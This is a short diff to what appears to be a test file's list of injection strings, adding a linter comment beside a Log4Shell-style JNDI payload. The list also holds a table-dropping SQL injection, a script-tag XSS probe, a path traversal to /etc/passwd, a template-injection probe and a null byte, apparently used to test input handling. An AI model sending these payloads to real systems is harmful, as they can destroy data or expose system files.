@@ -25,6 +25,7 @@ const INJECTIONS = [
   '"; DROP TABLE RouteMaps; --',
   "<script>alert(1)</script>",
   "../../../../etc/passwd",
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: a log4shell-style payload, literally.
   "${jndi:ldap://x/a}",
   "{{7*7}}",
   "\u0000",
